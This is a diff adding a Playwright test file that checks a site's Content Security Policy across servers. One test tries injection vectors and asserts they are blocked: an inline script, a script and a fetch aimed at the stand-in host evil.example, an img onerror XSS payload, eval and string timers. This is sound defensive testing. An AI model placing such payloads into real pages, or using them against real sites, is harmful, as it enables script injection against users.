@@ -1,0 +1,88 @@
+import { expect, test } from '@playwright/test';
+import { untilReady } from '../support/open';
+import { onEachHost } from './support/each-host';
+import { builtMounts, isPage, pageAddress, servedFiles } from './support/mounts';
+import { tryWidgets } from './support/try-widgets';
+import { watchForViolations } from './support/violations';
+
+/** What browsers say of a policy, beside the event. */
+const complaint = /Content.Security.Policy|Trusted|integrity|Permissions.Policy|Cross-Origin|blocked/i;
+
+onEachHost(builtMounts(), ({ server, mount, origin }) => {
+  // Every page on the one, a sixth of them on the others, which send the same headers (answers.host.ts).
+  const step = server.name === 'nginx' ? 1 : 6;
+  const pages = servedFiles(mount)
+    .filter(isPage)
+    .filter((_, index) => index % step === 0);
+
+  test('nothing that a page does, or a reader with its widgets, is against the policy', async ({ page }) => {
+    test.setTimeout(600_000);
+    const troubles: string[] = [];
+    page.on('console', (message) => {
+      if (complaint.test(message.text())) troubles.push(`${page.url()}: ${message.text()}`);
+    });
+    page.on('pageerror', (error) => troubles.push(`${page.url()}: ${error.message}`));
+    const violations = await watchForViolations(page);
+    const used = new Set<string>();
+    for (const file of pages) {
+      await page.goto(origin() + pageAddress(mount, file));
+      await untilReady(page);
+      await tryWidgets(page, used);
+    }
+    await page.setViewportSize({ width: 390, height: 800 });
+    for (const file of pages.slice(0, 5)) {
+      await page.goto(origin() + pageAddress(mount, file));
+      await untilReady(page);
+      await tryWidgets(page, used);
+    }
+    expect(used.size).toBeGreaterThan(5);
+    expect([...violations, ...troubles]).toEqual([]);
+  });
+
+  test('code of another host, inline code and text made into code are blocked', async ({ page }) => {
+    const violations = await watchForViolations(page);
+    await page.goto(origin() + pageAddress(mount, 'index.html'));
+    const outcome = await page.evaluate(async () => {
+      // The tools that run this code may evaluate text; what runs in a task of the page's own may not.
+      await new Promise((resolve) => setTimeout(resolve, 0));
+      const attempt = (act: () => void): string => {
+        try {
+          act();
+          return 'done';
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      const inline = document.createElement('script');
+      inline.append('window.hit = 1');
+      const foreign = document.createElement('script');
+      const results = {
+        inline: attempt(() => document.body.append(inline)),
+        foreign: attempt(() => (foreign.src = 'https://evil.example/x.js')),
+        ownButNoScript: attempt(() => (foreign.src = '/static/logo.svg')),
+        markup: attempt(() => (document.createElement('div').innerHTML = '<img src=x onerror="window.hit = 1">')),
+        eval: attempt(() => window.eval('window.hit = 1')),
+        timer: attempt(() => window.setTimeout('window.hit = 1', 0)),
+        policy: attempt(() => Reflect.get(window, 'trustedTypes').createPolicy('own', { createHTML: String })),
+        handler: attempt(() => document.body.setAttribute('onclick', 'window.hit = 1')),
+        request: await fetch('https://evil.example/').then(
+          () => 'done',
+          (error: Error) => error.name,
+        ),
+      };
+      document.body.click();
+      await new Promise((resolve) => setTimeout(resolve, 50));
+      return { ...results, hit: Reflect.get(window, 'hit') ?? 'never' };
+    });
+    expect(outcome).toMatchObject({
+      foreign: 'TypeError',
+      ownButNoScript: 'TypeError',
+      markup: 'TypeError',
+      eval: 'EvalError',
+      policy: 'TypeError',
+      request: 'TypeError',
+      hit: 'never',
+    });
+    expect(violations.length).toBeGreaterThan(5);
+  });
+});
